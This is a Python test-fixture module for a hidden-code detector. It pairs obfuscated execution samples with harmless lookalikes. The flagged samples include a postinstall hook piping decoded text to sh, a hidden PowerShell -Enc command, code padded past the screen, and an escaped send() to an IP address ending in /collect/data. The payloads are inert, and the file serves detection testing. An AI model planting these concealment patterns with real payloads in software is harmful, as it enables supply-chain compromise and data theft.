"""Hidden code as attackers ship it, with a harmless text inside; and code that is merely small or full of data."""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Iterator

_INERT = b"print('inert sample, nothing happens here, nothing at all')  # and some more of nothing\n"
_B64 = base64.b64encode(_INERT).decode()


def _js_obfuscated() -> str:
    rows = ",".join(f"'s{n}'" for n in range(12))
    uses = "".join(f"var _0x{n:05x}=_0x4d1c(0x{n:x});" for n in range(0x1A2B0, 0x1A2B0 + 20))
    return (
        f"var _0x12ab=[{rows}];(function(_0x3f1a,_0x2b3c){{while(!![]){{try{{if(_0x2b3c===1)break;else "
        "_0x3f1a['push'](_0x3f1a['shift']());}catch(_0x5e6f){_0x3f1a['push'](_0x3f1a['shift']());}}}(_0x12ab,1));"
        f"function _0x4d1c(_0x1,_0x2){{_0x1=_0x1-0x10;return _0x12ab[_0x1];}}{uses}"
    )


def flags() -> Iterator[tuple[str, dict[str, bytes]]]:
    yield "js_decode_execute--atob", {"a.js": f"x();eval(atob('{_B64}'));".encode()}
    yield "js_decode_execute--buffer", {"a.js": f"new Function(Buffer.from('{_B64}', 'base64').toString())();".encode()}
    follow = f"const p = atob('{_B64}');\nlog(1);\nconst f = new Function(p); f();\n"
    yield "js_decoded_variable_executed--atob", {"a.js": follow.encode()}
    yield "js_obfuscator--rotated-table", {"dist/a.js": _js_obfuscated().encode()}
    rotated = "var t=['a','b'];(function(a,n){while(--n){a[\"push\"](a[\"shift\"]());}}(t,3));"
    yield "js_obfuscator--small-table", {"dist/a.js": rotated.encode()}
    escaped = r"(function(a,n){while(--n){a['\x70\x75\x73\x68'](a['\x73\x68\x69\x66\x74']());}}(t,3));"
    yield "js_obfuscator--escaped-names", {"dist/a.js": escaped.encode()}
    yield "js_hidden_variable_executed--eval", {"a.js": b"var _0x1f=_0x3b7c('0x0');eval(_0x1f);"}
    packed = "eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(c,k[c])}}return p}('0(1)',2,2,'a|b'.split('|'),0,{}))"
    yield "js_packer--classic", {"a.min.js": packed.encode()}
    yield "jsfuck--six-characters", {"a.js": ("[][(![]+[])[+[]]+" + "(!![]+[])[+!+[]]+" * 40 + "[]]").encode()}
    padded = "module.exports = run;" + " " * 600 + "require('child_' + 'process').exec('true');\n"
    yield "padded_code--beyond-the-screen", {"index.js": padded.encode()}
    hidden = "".join(f"\\x{b:02x}" for b in b"https://198.51.100.7/collect/data")
    yield "escaped_text--address", {"a.js": f"send('{hidden}');".encode()}
    codes = ",".join(str(b) for b in b"console.log('inert sample')")
    yield "character_codes--array", {"a.js": f"run(String.fromCharCode({codes}));".encode()}
    yield "shell_decode_execute--reversed", {"setup.sh": b"echo 'hs.di/tset.elpmaxe' |rev | sh\n"}
    yield "reversed_execute--require", {"a.js": b"require('ssecorp_dlihc'.split('').reverse().join(''));\n"}
    yield "py_decode_execute--base64", {"setup.py": f"import base64\nexec(base64.b64decode('{_B64}'))\n".encode()}
    z = base64.b64encode(zlib.compress(_INERT)).decode()
    yield "py_decode_execute--zlib", {"a.py": f"exec(zlib.decompress(base64.b64decode(b'{z}')))\n".encode()}
    nested = f"exec(compile(__import__('base64').b64decode('{_B64}'),'<s>','exec'))\n"
    yield "py_decode_execute--hidden-import", {"a.py": nested.encode()}
    yield "py_decoded_variable_executed--later", {"a.py": f"c = base64.b64decode('{_B64}')\nexec(c)\n".encode()}
    yield "py_marshal--literal", {"a.py": b"import marshal\nrun(marshal.loads(b'\\xe3\\x00'))\n"}
    utf16 = base64.b64encode("Write-Output inert; Write-Output sample".encode("utf-16-le")).decode()
    yield "py_marshal--packed", {"a.py": f"run(marshal.loads(zlib.decompress(b'{z}')))\n".encode()}
    yield "powershell_encoded--run", {"run.bat": f"powershell.exe -NoP -W Hidden -Enc {utf16}\r\n".encode()}
    yield "shell_decode_execute--pipe", {"postinst.sh": f"#!/bin/sh\necho {_B64} | base64 -d | bash\n".encode()}
    script = {"name": "a", "version": "1.0.0", "scripts": {"postinstall": f"echo {_B64} | base64 --decode | sh"}}
    yield "shell_decode_execute--in-a-manifest", {"package.json": json.dumps(script).encode()}
    yield "php_decode_execute--upload", {"a.php": f"<?php @eval(base64_decode('{_B64}')); ?>".encode()}
    yield "aaencode--emoticons", {"a.js": "ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_'];".encode()}
    yield "jjencode--punctuation", {"a.js": b'$=~[];$={___:++$,$$$$:(![]+"")[$]};'}


def passes() -> Iterator[tuple[str, dict[str, bytes]]]:
    minified = "!function(e,t){e.a=t}(this,function(){var n=[1,2,3];return n.map(function(e){return e*e})});" * 40
    yield "minified", {"dist/lib.min.js": minified.encode()}
    yield "data-is-decoded", {
        "a.js": f"const img = atob('{_B64}'); draw(img);".encode(),
        "a.py": f"data = base64.b64decode('{_B64}')\nsave(data)\nexec(open('x').read())\n".encode(),
    }
    yield "image-in-a-page", {"a.html": f"<img src='data:image/png;base64,{_B64 * 60}'>".encode()}
    table = "const WORD = /[\\xaa\\xb5\\xba\\xc0-\\xd6\\xd8-\\xf6]/; const hex = '\\x41\\x42\\x43\\x44';\n"
    yield "character-tables", {"a.js": table.encode()}
    alphabet = "".join(f"\\x{b:02x}" for b in range(0x41, 0x5B))
    yield "alphabet-in-escapes", {"a.py": f"LETTERS = b'{alphabet}'\n".encode()}
    yield "evaluator-of-readable-code", {"a.js": b"const get = new Function('return this'); eval('1 + 1');\n"}
    yield "json-is-loaded", {"a.py": b"x = eval(repr(json.loads(text)))\nvalue = eval(expr, {})\n"}
    yield "aligned-table", {"a.py": b"A = [\n" + b"    (1,      2,       3),\n" * 20 + b"]\n"}
    yield "shell-that-decodes-a-file", {"a.sh": b"base64 -d cert.b64 > cert.pem\ncat cert.pem | openssl x509 -noout\n"}
    queue = b"queue.push(queue.shift());\nrow['push'](other['pop']());\nfunction (_0x1f) {}\nrun(0x1f);\n"
    yield "rotated-queue", {"a.js": queue}
    words = b"const WORDS = /(nop|rbit|rev(16|sh)?|pop|push)/; const OTHER = 'rev|sh';\n"
    yield "alternatives-that-name-shells", {"highlight.js": words}
    yield "manual", {"README.md": b"Malware often does eval(atob('...')) or echo x | base64 -d | sh; we do not.\n"}
